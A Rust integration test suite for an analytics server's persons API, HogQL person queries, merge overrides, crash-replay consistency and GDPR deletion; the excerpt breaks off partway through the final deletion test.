//! Persons: built from captured events, read and changed through the persons API, seen by
//! HogQL; checked against the generator's independent person ids; and the same after a crash.

use std::collections::BTreeMap;

use reqwest::Method;
use serde_json::{Value, json};

use crate::support::*;

struct Api<'a> {
    srv: &'a Server,
    http: reqwest::Client,
    key: String,
}

impl<'a> Api<'a> {
    fn new(srv: &'a Server) -> Self {
        Self {
            srv,
            http: client(),
            key: KEY.to_owned(),
        }
    }

    async fn send(&self, method: Method, path: &str, body: Option<Value>) -> (u16, String) {
        let mut req = self
            .http
            .request(method, self.srv.url(path))
            .bearer_auth(&self.key);
        if let Some(b) = body {
            req = req.json(&b);
        }
        let r = req.send().await.unwrap();
        (r.status().as_u16(), r.text().await.unwrap())
    }

    async fn json(&self, method: Method, path: &str, body: Option<Value>) -> (u16, Value) {
        let (s, t) = self.send(method, path, body).await;
        (s, serde_json::from_str(&t).unwrap_or(Value::String(t)))
    }

    async fn get(&self, path: &str) -> Value {
        let (s, v) = self.json(Method::GET, path, None).await;
        assert_eq!(s, 200, "GET {path}: {v}");
        v
    }

    async fn post_ok(&self, path: &str, body: Value) {
        let (s, t) = self.send(Method::POST, path, Some(body)).await;
        assert_eq!((s, t.as_str()), (200, ""), "POST {path}");
    }

    async fn capture(&self, batch: Value) {
        let r = self
            .http
            .post(self.srv.url("/batch/"))
            .json(&json!({"api_key": TOKEN, "batch": batch}))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 200);
    }

    async fn hogql(&self, q: &str, modifiers: Value) -> Vec<Value> {
        let (s, v) = self
            .json(
                Method::POST,
                "/api/projects/1/query/",
                Some(json!({"query": {"kind": "HogQLQuery", "query": q, "modifiers": modifiers}})),
            )
            .await;
        assert_eq!(s, 200, "{q}: {v}");
        v["results"].as_array().unwrap().clone()
    }

    async fn person_by_did(&self, did: &str) -> Value {
        let v = self
            .get(&format!("/api/projects/1/persons/?distinct_id={did}"))
            .await;
        assert_eq!(v["count"], 1, "{did}: {v}");
        v["results"][0].clone()
    }
}

fn ev(event: &str, did: &str, ts: &str, props: Value) -> Value {
    json!({"event": event, "distinct_id": did, "timestamp": ts, "properties": props})
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn persons_api_end_to_end() {
    let srv = Server::start(&[]);
    let api = Api::new(&srv);
    api.capture(json!([
        ev("$pageview", "anon-a", "2024-05-01T10:00:00Z", json!({"$browser": "Chrome", "$current_url": "https://x.io/a"})),
        ev("$identify", "alice", "2024-05-01T10:01:00Z", json!({"$anon_distinct_id": "anon-a", "$set": {"email": "Alice@Example.com", "plan": "pro", "age": 31}})),
        ev("$pageview", "bob", "2024-05-02T10:00:00Z", json!({"$set": {"email": "bob@example.com", "age": 25}, "$set_once": {"first_seen": "may"}})),
        ev("$pageview", "carol", "2024-05-03T10:00:00Z", json!({"$set": {"age": 40}})),
        ev("$pageview", "ghost", "2024-05-03T11:00:00Z", json!({"$process_person_profile": false, "$set": {"x": 1}})),
        ev("$groupidentify", "bob", "2024-05-03T12:00:00Z", json!({"$group_type": "company", "$group_key": "acme", "$group_set": {"plan": "enterprise"}})),
        ev("$groupidentify", "bob", "2024-05-03T12:01:00Z", json!({"$group_type": "company", "$group_key": "k".repeat(401)})),
        ev("$create_alias", "carol", "2024-05-03T13:00:00Z", json!({"alias": "null"})),
        ev("order", "bob", "2024-05-03T14:00:00Z", json!({"$groups": {"company": "acme"}})),
    ]))
    .await;

    // 1. list: newest first, absolute links, count.
    let all = api.get("/api/projects/1/persons/").await;
    assert_eq!(all["count"], 3, "{all}");
    let names: Vec<&str> = all["results"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, vec!["carol", "bob@example.com", "Alice@Example.com"]);
    let alice = api.person_by_did("anon-a").await;
    assert_eq!(alice["distinct_ids"], json!(["alice", "anon-a"]));
    assert_eq!(alice["is_identified"], true);
    assert_eq!(alice["properties"]["$initial_browser"], "Chrome");
    assert_eq!(alice["created_at"], "2024-05-01T10:00:00.000000Z");
    for f in [
        "id",
        "uuid",
        "name",
        "distinct_ids",
        "properties",
        "created_at",
        "is_identified",
    ] {
        assert!(alice.get(f).is_some(), "{f} missing: {alice}");
    }
    let page = api.get("/api/projects/1/persons/?limit=1&offset=1").await;
    assert_eq!(page["count"], 3);
    assert_eq!(page["results"].as_array().unwrap().len(), 1);
    let next = page["next"].as_str().unwrap();
    let prev = page["previous"].as_str().unwrap();
    assert!(
        next.starts_with("http://") && next.contains("offset=2") && next.contains("limit=1"),
        "{next}"
    );
    assert!(prev.contains("offset=0"), "{prev}");
    let last = api.get("/api/projects/1/persons/?limit=1&offset=2").await;
    assert_eq!(last["next"], Value::Null);
    // Newer clients address the project as an environment: the same persons, and links
    // that stay under `/api/environments/`.
    let env = api
        .get("/api/environments/1/persons/?limit=1&offset=1")
        .await;
    assert_eq!(env["results"], page["results"]);
    let next = env["next"].as_str().unwrap();
    assert!(next.contains("/api/environments/1/persons/?"), "{next}");
    let id = env["results"][0]["id"].as_i64().unwrap();
    let one = api.get(&format!("/api/environments/1/persons/{id}/")).await;
    assert_eq!(one["id"], id);
    let beyond = api.get("/api/projects/1/persons/?offset=10").await;
    assert_eq!(beyond["results"], json!([]));
    assert_eq!(beyond["count"], 3);
    let filtered = api
        .get("/api/projects/1/persons/?search=carol&limit=1")
        .await;
    assert_eq!(filtered["count"], 1);
    // Filters: email (exact), search (email contains, case-insensitive / exact distinct id),
    // properties.
    let count = |v: &Value| v["count"].as_u64().unwrap();
    assert_eq!(
        count(
            &api.get("/api/projects/1/persons/?email=bob@example.com")
                .await
        ),
        1
    );
    assert_eq!(
        count(
            &api.get("/api/projects/1/persons/?email=BOB@example.com")
                .await
        ),
        0
    );
    assert_eq!(
        count(&api.get("/api/projects/1/persons/?search=EXAMPLE.COM").await),
        2
    );
    assert_eq!(
        count(&api.get("/api/projects/1/persons/?search=anon-a").await),
        1
    );
    assert_eq!(
        count(&api.get("/api/projects/1/persons/?search=anon").await),
        0
    );
    let props = |f: Value| {
        format!(
            "/api/projects/1/persons/?properties={}",
            url::form_urlencoded::byte_serialize(f.to_string().as_bytes()).collect::<String>()
        )
    };
    assert_eq!(
        count(
            &api.get(&props(
                json!([{"key": "age", "value": 30, "operator": "gt", "type": "person"}])
            ))
            .await
        ),
        2
    );
    assert_eq!(
        count(
            &api.get(&props(
                json!([{"key": "plan", "value": "pro", "operator": "exact", "type": "person"}])
            ))
            .await
        ),
        1
    );
    assert_eq!(
        count(
            &api.get(&props(
                json!([{"key": "email", "operator": "is_not_set", "type": "person"}])
            ))
            .await
        ),
        1
    );
    let (s, v) = api
        .json(
            Method::GET,
            &props(json!([{"key": "age", "value": 1, "operator": "between"}])),
            None,
        )
        .await;
    assert_eq!(
        (s, v["type"].as_str()),
        (400, Some("validation_error")),
        "{v}"
    );
    let (s, v) = api
        .json(
            Method::GET,
            "/api/projects/1/persons/?properties=nope",
            None,
        )
        .await;
    assert_eq!((s, v["attr"].as_str()), (400, Some("properties")), "{v}");
    let (s, _) = api
        .json(Method::GET, "/api/projects/1/persons/?limit=x", None)
        .await;
    assert_eq!(s, 400);

    // csv
    let (s, csv) = api
        .send(
            Method::GET,
            "/api/projects/1/persons/?format=csv&search=anon-a",
            None,
        )
        .await;
    assert_eq!(s, 200);
    let mut lines = csv.lines();
    let header: Vec<&str> = lines.next().unwrap().split(',').collect();
    assert!(
        header.contains(&"properties.email") && header.contains(&"distinct_ids.1"),
        "{csv}"
    );
    assert!(lines.next().unwrap().contains("Alice@Example.com"), "{csv}");

    // 2. retrieve by id and uuid; errors.
    let id = alice["id"].as_i64().unwrap();
    let by_id = api.get(&format!("/api/projects/1/persons/{id}/")).await;
    assert_eq!(by_id, alice);
    let by_uuid = api
        .get(&format!(
            "/api/projects/1/persons/{}/",
            alice["uuid"].as_str().unwrap()
        ))
        .await;
    assert_eq!(by_uuid["id"], id);
    let (s, v) = api
        .json(Method::GET, "/api/projects/1/persons/abc/", None)
        .await;
    assert_eq!(
        (s, v["type"].as_str(), v["attr"].as_str()),
        (400, Some("validation_error"), Some("id"))
    );
    let (s, v) = api
        .json(Method::GET, "/api/projects/1/persons/999999/", None)
        .await;
    assert_eq!((s, v["type"].as_str()), (404, Some("not_found")));
    let (s, _) = api
        .json(Method::GET, "/api/projects/2/persons/", None)
        .await;
    assert_eq!(s, 404, "another project");
    let (s, _) = api
        .json(
            Method::GET,
            &format!("/api/projects/1/persons/{id}/?format=xml"),
            None,
        )
        .await;
    assert_eq!(s, 400);

    // 3. PATCH acts as a $set event.
    let (s, v) = api
        .json(
            Method::PATCH,
            &format!("/api/projects/1/persons/{id}/"),
            Some(json!({"properties": {"plan": "team", "seats": 5}})),
        )
        .await;
    assert_eq!(s, 200, "{v}");
    assert_eq!(v["properties"]["plan"], "team");
    assert_eq!(v["properties"]["seats"], 5);
    let (s, _) = api
        .json(
            Method::PATCH,
            &format!("/api/projects/1/persons/{id}/"),
            Some(json!({"properties": 3})),
        )
        .await;
    assert_eq!(s, 400);
    let set_events = api
        .hogql(
            "SELECT event, distinct_id FROM events WHERE event = '$set'",
            json!({}),
        )
        .await;
    assert_eq!(
        set_events,
        vec![json!(["$set", "alice"])],
        "PATCH is a captured $set event"
    );

    // 11. update_property, 7. delete_property
    api.post_ok(
        &format!("/api/projects/1/persons/{id}/update_property/?key=color&value=red"),
        json!({}),
    )
    .await;
    api.post_ok(
        &format!("/api/projects/1/persons/{id}/update_property/"),
        json!({"key": "n", "value": 7}),
    )
    .await;
    api.post_ok(
        &format!("/api/projects/1/persons/{id}/delete_property/?$unset=seats"),
        json!({}),
    )
    .await;
    let p = api.get(&format!("/api/projects/1/persons/{id}/")).await;
    assert_eq!(p["properties"]["color"], "red");
    assert_eq!(p["properties"]["n"], 7);
    assert!(p["properties"].get("seats").is_none(), "{p}");
    let (s, _) = api
        .send(
            Method::POST,
            &format!("/api/projects/1/persons/{id}/update_property/?value=1"),
            Some(json!({})),
        )
        .await;
    assert_eq!(s, 400, "no key");
    let (s, _) = api
        .send(
            Method::POST,
            &format!("/api/projects/1/persons/{id}/delete_property/"),
            Some(json!({})),
        )
        .await;
    assert_eq!(s, 400, "no $unset");

    // 5. activity, with who and before/after.
    let act = api
        .get(&format!("/api/projects/1/persons/{id}/activity/"))
        .await;
    let kinds: Vec<&str> = act["results"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["activity"].as_str().unwrap())
        .collect();
    assert_eq!(kinds.last(), Some(&"created"), "{act}");
    let patch = act["results"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| {
            a["detail"]["changes"]
                .as_array()
                .is_some_and(|c| c.iter().any(|c| c["key"] == "seats" && c["after"] == 5))
        })
        .expect("PATCH in activity");
    assert!(
        patch["user"].as_str().unwrap().starts_with("api:"),
        "{patch}"
    );
    let unset = act["results"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| {
            a["detail"]["changes"].as_array().is_some_and(|c| {
                c.iter()
                    .any(|c| c["key"] == "seats" && c["before"] == 5 && c["after"].is_null())
            })
        })
        .expect("delete_property in activity");
    assert_eq!(unset["activity"], "updated");
    let (s, csv) = api
        .send(
            Method::GET,
            &format!("/api/projects/1/persons/{id}/activity/?format=csv"),
            None,
        )
        .await;
    assert!(s == 200 && csv.starts_with("activity,"), "{csv}");

    // 9. properties_timeline
    let tl = api
        .get(&format!(
            "/api/projects/1/persons/{id}/properties_timeline/"
        ))
        .await;
    let points = tl["points"].as_array().unwrap();
    assert!(points.len() >= 4, "{tl}");
    assert_eq!(points[0]["properties"]["$browser"], "Chrome");
    assert!(points[0]["properties"].get("email").is_none());
    assert_eq!(points[1]["properties"]["email"], "Alice@Example.com");
    assert_eq!(points.last().unwrap()["properties"]["color"], "red");
    assert!(
        points
            .iter()
            .all(|p| p["relevant_event_count"].as_u64() >= Some(1))
    );

    // HogQL sees persons, distinct ids, groups and warnings.
    let rows = api.hogql("SELECT count() FROM persons", json!({})).await;
    assert_eq!(rows, vec![json!([3])]);
    let rows = api
        .hogql(
            "SELECT distinct_id FROM person_distinct_ids ORDER BY distinct_id",
            json!({}),
        )
        .await;
    assert_eq!(
        rows,
        vec![
            json!(["alice"]),
            json!(["anon-a"]),
            json!(["bob"]),
            json!(["carol"])
        ]
    );
    let rows = api
        .hogql("SELECT key, properties.plan FROM groups", json!({}))
        .await;
    assert_eq!(rows, vec![json!(["acme", "enterprise"])]);
    let rows = api
        .hogql(
            "SELECT group_0.properties.plan, $group_0 FROM events WHERE event = 'order'",
            json!({}),
        )
        .await;
    assert_eq!(rows, vec![json!(["enterprise", "acme"])]);
    let rows = api
        .hogql(
            "SELECT type FROM ingestion_warnings ORDER BY type",
            json!({}),
        )
        .await;
    assert_eq!(
        rows,
        vec![
            json!(["cannot_merge_with_illegal_distinct_id"]),
            json!(["group_identify_invalid"])
        ]
    );
    let rows = api
        .hogql(
            "SELECT person_id, person.properties FROM events WHERE distinct_id = 'ghost'",
            json!({}),
        )
        .await;
    assert_eq!(
        rows[0][1],
        Value::Null,
        "personless events carry no person properties"
    );
    let rows = api
        .hogql(
            "SELECT count() FROM persons WHERE properties.age > 30",
            json!({}),
        )
        .await;
    assert_eq!(rows, vec![json!([2])], "person properties are typed");

    // 10. split: each distinct id its own person again.
    api.post_ok(&format!("/api/projects/1/persons/{id}/split/"), json!({}))
        .await;
    assert_eq!(count(&api.get("/api/projects/1/persons/").await), 4);
    let anon = api.person_by_did("anon-a").await;
    assert_eq!(anon["id"], id, "the id the person was made from keeps it");
    assert_ne!(api.person_by_did("alice").await["id"], id);
    let act = api
        .get(&format!("/api/projects/1/persons/{id}/activity/"))
        .await;
    assert_eq!(act["results"][0]["activity"], "split");

    // 6. delete_events, 8. delete_recordings: 200, no body; queued in activity.
    let bob = api.person_by_did("bob").await;
    let bob_id = bob["id"].as_i64().unwrap();
    api.post_ok(
        &format!("/api/projects/1/persons/{bob_id}/delete_events/"),
        json!({}),
    )
    .await;
    api.post_ok(
        &format!("/api/projects/1/persons/{bob_id}/delete_recordings/"),
        json!({}),
    )
    .await;
    let act = api
        .get(&format!("/api/projects/1/persons/{bob_id}/activity/"))
        .await;
    let kinds: Vec<&str> = act["results"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["activity"].as_str().unwrap())
        .collect();
    assert!(
        kinds.contains(&"events_deletion_queued") && kinds.contains(&"recordings_deletion_queued"),
        "{kinds:?}"
    );

    // 4. DELETE: 204, no body; then 404.
    let (s, body) = api
        .send(
            Method::DELETE,
            &format!("/api/projects/1/persons/{bob_id}/"),
            None,
        )
        .await;
    assert_eq!((s, body.as_str()), (204, ""));
    let (s, _) = api
        .json(
            Method::GET,
            &format!("/api/projects/1/persons/{bob_id}/"),
            None,
        )
        .await;
    assert_eq!(s, 404);
    let (s, _) = api
        .send(
            Method::DELETE,
            "/api/projects/1/persons/1/?delete_events=maybe",
            None,
        )
        .await;
    assert_eq!(s, 400);
    let act = api
        .get(&format!("/api/projects/1/persons/{bob_id}/activity/"))
        .await;
    assert_eq!(
        act["results"].as_array().unwrap().len(),
        1,
        "only the deletion entry survives: {act}"
    );
    assert_eq!(act["results"][0]["activity"], "deleted");
    assert!(!act.to_string().contains("bob@example.com"));

    // 12. project activity
    let all_act = api.get("/api/projects/1/persons/activity/?limit=2").await;
    assert!(all_act["count"].as_u64().unwrap() > 5);
    assert_eq!(all_act["results"].as_array().unwrap().len(), 2);
    assert!(all_act["next"].as_str().unwrap().contains("offset=2"));

    // 13. bulk_delete: limits, ids and distinct ids.
    let many: Vec<i64> = (1..=1001).collect();
    let (s, v) = api
        .json(
            Method::POST,
            "/api/projects/1/persons/bulk_delete/",
            Some(json!({"ids": many})),
        )
        .await;
    assert_eq!((s, v["attr"].as_str()), (400, Some("ids")), "{v}");
    assert!(
        v["detail"].as_str().unwrap().contains("at most 1000"),
        "{v}"
    );
    let many: Vec<String> = (0..1001).map(|i| format!("d{i}")).collect();
    let (s, _) = api
        .json(
            Method::POST,
            "/api/projects/1/persons/bulk_delete/",
            Some(json!({"distinct_ids": many})),
        )
        .await;
    assert_eq!(s, 400);
    let (s, _) = api
        .json(
            Method::POST,
            "/api/projects/1/persons/bulk_delete/",
            Some(json!({})),
        )
        .await;
    assert_eq!(s, 400, "nothing to delete");
    let carol = api.person_by_did("carol").await;
    api.post_ok(
        "/api/projects/1/persons/bulk_delete/",
        json!({"ids": [carol["id"], 424242], "distinct_ids": ["alice"], "delete_events": true}),
    )
    .await;
    let left = api.get("/api/projects/1/persons/").await;
    assert_eq!(left["count"], 1, "{left}");
    assert_eq!(left["results"][0]["distinct_ids"], json!(["anon-a"]));

    // Scopes: a read-only key cannot write; no activity_log scope, no activity.
    let ro = {
        let out = std::process::Command::new(bin())
            .args(["keys", "create", "--scopes", "person:read", "--data-dir"])
            .arg(&srv.data_dir)
            .output()
            .unwrap();
        String::from_utf8(out.stdout).unwrap().trim().to_owned()
    };
    let limited = Api {
        srv: &srv,
        http: client(),
        key: ro,
    };
    assert_eq!(
        limited
            .json(Method::GET, "/api/projects/1/persons/", None)
            .await
            .0,
        200
    );
    let (s, v) = limited
        .json(
            Method::DELETE,
            &format!("/api/projects/1/persons/{id}/"),
            None,
        )
        .await;
    assert_eq!((s, v["type"].as_str()), (403, Some("permission_denied")));
    assert_eq!(
        limited
            .json(Method::GET, "/api/projects/1/persons/activity/", None)
            .await
            .0,
        403
    );
    assert_eq!(
        limited
            .json(
                Method::POST,
                "/api/projects/1/persons/bulk_delete/",
                Some(json!({"ids": [1]}))
            )
            .await
            .0,
        403
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn merges_override_old_events_in_queries() {
    let srv = Server::start(&[]);
    let api = Api::new(&srv);
    api.capture(json!([
        ev(
            "$pageview",
            "anon",
            "2024-05-01T10:00:00Z",
            json!({"$set": {"plan": "free", "color": "red"}})
        ),
        ev(
            "$pageview",
            "user",
            "2024-05-01T11:00:00Z",
            json!({"$set": {"plan": "pro"}})
        ),
    ]))
    .await;
    // The first two events are in the table before the merge.
    let mut srv = srv;
    srv.stop();
    let srv = Server::start_in(&srv.data_dir.clone(), &[]);
    let api = Api {
        srv: &srv,
        ..Api::new(&srv)
    };
    api.capture(json!([
        ev(
            "$identify",
            "user",
            "2024-05-01T12:00:00Z",
            json!({"$anon_distinct_id": "anon"})
        ),
        ev("$pageview", "anon", "2024-05-01T13:00:00Z", json!({})),
    ]))
    .await;
    let q = "SELECT distinct_id, person_id, person.properties.plan FROM events ORDER BY timestamp";
    let rows = api.hogql(q, json!({})).await;
    let user = api.person_by_did("user").await;
    let uuid = user["uuid"].as_str().unwrap();
    assert!(
        rows.iter().all(|r| r[1] == uuid),
        "every event answers as the merged person: {rows:?}"
    );
    assert_eq!(rows[0][2], "free", "event-time snapshot by default");
    assert_eq!(
        api.hogql("SELECT count(DISTINCT person_id) FROM events", json!({}))
            .await,
        vec![json!([1])]
    );
    let raw = api
        .hogql(
            q,
            json!({"personsOnEventsMode": "person_id_no_override_properties_on_events"}),
        )
        .await;
    assert_ne!(raw[0][1], uuid, "without overrides the stored id shows");
    let joined = api
        .hogql(
            q,
            json!({"personsOnEventsMode": "person_id_override_properties_joined"}),
        )
        .await;
    assert!(
        joined.iter().all(|r| r[2] == "pro"),
        "joined: current properties: {joined:?}"
    );
    let (s, v) = api
        .json(Method::POST, "/api/projects/1/query/", Some(json!({"query": {"kind": "HogQLQuery", "query": q, "modifiers": {"personsOnEventsMode": "sometimes"}}})))
        .await;
    assert_eq!(s, 400, "{v}");
    assert_eq!(user["properties"]["color"], "red", "merged properties");
    assert_eq!(user["properties"]["plan"], "pro", "the target's win");

    // Compaction folds the override into the files: then even the raw stored ids agree.
    let dir = srv.data_dir.clone();
    let mut srv = srv;
    srv.stop();
    let srv = Server::start_in(
        &dir,
        &[
            "--compaction-interval",
            "1s",
            "--override-fold-interval",
            "1s",
        ],
    );
    let api = Api {
        srv: &srv,
        ..Api::new(&srv)
    };
    let raw_mode = json!({"personsOnEventsMode": "person_id_no_override_properties_on_events"});
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    loop {
        let raw = api.hogql(q, raw_mode.clone()).await;
        if raw.iter().all(|r| r[1] == uuid) {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "the override was not folded into the files: {raw:?}"
        );
        tokio::time::sleep(std::time::Duration::from_millis(250)).await;
    }
    let rows = api.hogql(q, json!({})).await;
    assert!(rows.iter().all(|r| r[1] == uuid));
    assert_eq!(rows[0][2], "free", "snapshots are untouched by folding");
    // No file holds the merged-away id any more: the sweep forgets the override.
    let db = rusqlite::Connection::open_with_flags(
        dir.join("meta.sqlite"),
        rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY,
    )
    .unwrap();
    loop {
        let left: i64 = db
            .query_row("SELECT count(*) FROM person_overrides", [], |r| r.get(0))
            .unwrap();
        if left == 0 {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "{left} overrides were not forgotten after folding"
        );
        tokio::time::sleep(std::time::Duration::from_millis(250)).await;
    }
}

/// Generated data with sign-ups and second devices: every event's person must be the one
/// the generator says (its own model of who is who), and the persons count must match.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn generated_merges_match_the_generators_persons() {
    let gen_dir = tempfile::tempdir().unwrap();
    let out = std::process::Command::new(bin())
        .args([
            "gen",
            "--events",
            "30000",
            "--seed",
            "7",
            "--project-api-key",
            TOKEN,
            "--out",
        ])
        .arg(gen_dir.path())
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let srv = Server::start(&[]);
    let api = Api::new(&srv);
    let bodies = std::fs::read(gen_dir.path().join("batches.jsonl.gz")).unwrap();
    let idx = std::fs::read_to_string(gen_dir.path().join("batches.idx")).unwrap();
    for line in idx.lines() {
        let f: Vec<u64> = line.split('\t').map(|x| x.parse().unwrap()).collect();
        let body = bodies[f[0] as usize..(f[0] + f[1]) as usize].to_vec();
        let r = api
            .http
            .post(srv.url("/batch/"))
            .header("Content-Encoding", "gzip")
            .header("Content-Type", "application/json")
            .body(body)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 200);
    }
    // The generator's answer, read from its Parquet file.
    let ctx = datafusion::prelude::SessionContext::new();
    ctx.register_parquet(
        "g",
        gen_dir.path().join("events.parquet").to_str().unwrap(),
        Default::default(),
    )
    .await
    .unwrap();
    let expected: BTreeMap<String, String> = {
        let batches = ctx
            .sql("SELECT uuid, person_id FROM g")
            .await
            .unwrap()
            .collect()
            .await
            .unwrap();
        let mut m = BTreeMap::new();
        for b in batches {
            use arrow::array::AsArray;
            let s = |i: usize| -> Vec<String> {
                let c =
                    arrow::compute::cast(b.column(i), &arrow::datatypes::DataType::Utf8).unwrap();
                c.as_string::<i32>()
                    .iter()
                    .map(|v| v.unwrap().to_owned())
                    .collect()
            };
            for (u, p) in s(0).into_iter().zip(s(1)) {
                m.insert(u, p);
            }
        }
        m
    };
    let expected_persons: std::collections::BTreeSet<&String> = expected.values().collect();
    let got = api
        .hogql(
            "SELECT uuid, person_id FROM events ORDER BY uuid LIMIT 50000",
            json!({}),
        )
        .await;
    assert_eq!(got.len(), expected.len());
    let mut wrong = 0;
    for r in &got {
        if expected.get(r[0].as_str().unwrap()).map(String::as_str) != r[1].as_str() {
            wrong += 1;
        }
    }
    assert_eq!(wrong, 0, "events whose person differs from the generator's");
    let persons = api.get("/api/projects/1/persons/?limit=1").await;
    assert_eq!(
        persons["count"].as_u64().unwrap() as usize,
        expected_persons.len(),
        "persons count vs the generator's distinct persons"
    );
    let uniq = api
        .hogql("SELECT count(DISTINCT person_id) FROM events", json!({}))
        .await;
    assert_eq!(
        uniq[0][0].as_u64().unwrap() as usize,
        expected_persons.len()
    );
    let identified = api
        .hogql("SELECT count() FROM persons WHERE is_identified", json!({}))
        .await;
    assert!(identified[0][0].as_u64().unwrap() > 10, "{identified:?}");
}

/// kill -9 right after the last acknowledgement, while person changes may still be pending:
/// after replay the persons equal those of a run that was never interrupted.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn crash_during_person_processing_replays_to_the_same_persons() {
    let mut batches = Vec::new();
    for b in 0..40 {
        let mut batch = Vec::new();
        for i in 0..50 {
            let n = b * 50 + i;
            let ts = format!(
                "2024-06-01T{:02}:{:02}:{:02}Z",
                n / 3600 % 24,
                n / 60 % 60,
                n % 60
            );
            let anon = format!("anon-{}", n % 170);
            let user = format!("user-{}", n % 60);
            let e = match n % 7 {
                0 => ev(
                    "$identify",
                    &user,
                    &ts,
                    json!({"$anon_distinct_id": anon, "$set": {"email": format!("{user}@x.io"), "n": n}}),
                ),
                1 => ev(
                    "$create_alias",
                    &format!("user-{}", (n + 1) % 60),
                    &ts,
                    json!({"alias": anon}),
                ),
                2 => ev(
                    "$pageview",
                    &anon,
                    &ts,
                    json!({"$browser": if n % 2 == 0 { "Chrome" } else { "Safari" }, "$set_once": {"first": n}}),
                ),
                3 if n % 343 == 3 => ev(
                    "$merge_dangerously",
                    &user,
                    &ts,
                    json!({"alias": format!("user-{}", (n + 7) % 60)}),
                ),
                4 => ev(
                    "$delete_person_property",
                    &user,
                    &ts,
                    json!({"$unset": ["n"]}),
                ),
                _ => ev("x", &anon, &ts, json!({"$set": {"last": n}})),
            };
            batch.push(e);
        }
        batches.push(json!(batch));
    }
    async fn run(batches: &[Value], crash: bool) -> Value {
        let dir = tempfile::tempdir().unwrap();
        // Person changes are held back: the crash loses every one of them, and the replay
        // must redo them all (the table has some of the events already).
        let mut srv = Server::start_in(dir.path(), &["--persons-commit-interval", "1h"]);
        {
            let api = Api::new(&srv);
            for b in batches {
                api.capture(b.clone()).await;
            }
        }
        if crash {
            // Let the table commit the events first: the replay then has records the table
            // holds but the person store does not.
            let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
            loop {
                let h: Value = client()
                    .get(srv.url("/_health"))
                    .send()
                    .await
                    .unwrap()
                    .json()
                    .await
                    .unwrap();
                if h["committed_wal_seq"] == h["last_wal_seq"]
                    || std::time::Instant::now() > deadline
                {
                    assert_eq!(
                        h["committed_wal_seq"], h["last_wal_seq"],
                        "the table did not catch up"
                    );
                    break;
                }
                tokio::time::sleep(std::time::Duration::from_millis(50)).await;
            }
            srv.kill9();
        } else {
            srv.stop();
        }
        let srv = Server::start_in(dir.path(), &[]);
        let api = Api::new(&srv);
        let v = api.get("/api/projects/1/persons/?limit=1000").await;
        let rows = api
            .hogql("SELECT distinct_id, person_id, count() FROM events GROUP BY distinct_id, person_id ORDER BY distinct_id, person_id LIMIT 10000", json!({}))
            .await;
        let overrides = api
            .hogql("SELECT count(DISTINCT person_id) FROM events", json!({}))
            .await;
        let _keep = dir;
        json!({"persons": v["results"], "count": v["count"], "events": rows, "uniq": overrides})
    }
    let clean = run(&batches, false).await;
    let crashed = run(&batches, true).await;
    assert!(clean["count"].as_u64().unwrap() > 10, "{}", clean["count"]);
    let total: u64 = clean["events"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r[2].as_u64().unwrap())
        .sum();
    assert_eq!(total, 2000);
    assert_eq!(crashed, clean);
}

/// A deletion run right after its task is queued, with no event after it: the queueing
/// command is the WAL's last record, so the table must be flushed to a position past the
/// last event although the buffer holds no row. (It waited for an event, or 10 minutes.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_deletion_run_right_after_queueing_needs_no_further_event() {
    let srv = Server::start(&["--deletion-schedule", "off"]);
    let api = Api::new(&srv);
    let events: Vec<Value> = (0..6)
        .map(|i| json!({"event": "e", "distinct_id": if i % 2 == 0 { "gone" } else { "kept" }}))
        .collect();
    api.capture(json!(events)).await;
    let mut found = Value::Null;
    for _ in 0..200 {
        found = api.get("/api/projects/1/persons/?distinct_id=gone").await;
        if found["count"] == 1 {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    let id = found["results"][0]["id"]
        .as_i64()
        .expect("a person for `gone`");
    let (s, _) = api
        .send(
            Method::POST,
            &format!("/api/projects/1/persons/{id}/delete_events/"),
            None,
        )
        .await;
    assert_eq!(s, 200);
    let (s, run) = api
        .json(Method::POST, "/api/deletion_tasks/run/", None)
        .await;
    assert_eq!(s, 200, "{run}");
    assert_eq!(run["rows_deleted"], 3, "{run}");
    let left = api
        .hogql(
            "SELECT distinct_id, count() FROM events GROUP BY 1",
            json!({}),
        )
        .await;
    assert_eq!(left, vec![json!(["kept", 3])]);
}

/// GDPR: DELETE with delete_events, then `hedgerow tasks run`: no byte of the person's
/// distinct ids or property values is left anywhere in the data directory, and everyone
/// else's events are all still there.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn deletion_task_leaves_no_byte_of_the_person() {
    use hedgerow_engine::internals::inspect::{grep_dir, parquet_values_containing};
    const ANON: &str = "aaaa-victim-anon-9f3e1a";
    const USER: &str = "aaaa-victim-user-9f3e1a";
    const SECRET: &str = "victim-secret-77c41d";
    const EMAIL: &str = "victim-77c41d@mail.test";
    let needles = [ANON, USER, SECRET, EMAIL];
    let srv = Server::start(&[
        "--compaction-interval",
        "1s",
        "--compaction-min-files",
        "2",
        "--deletion-schedule",
        "off",
    ]);
    let api = Api::new(&srv);
    let others = |k: usize| -> Vec<Value> {
        (0..50)
            .map(|i| {
                ev(
                    "$pageview",
                    &format!("other-{}", i % 7),
                    &format!("2024-05-0{}T10:{:02}:00Z", 1 + k % 3, i),
                    json!({"$current_url": format!("https://x.io/{i}"), "n": i}),
                )
            })
            .collect()
    };
    // Several flushes (and so several files per partition, then compaction) with the
    // victim's events among others'.
    for k in 0..4 {
        let mut batch = others(k);
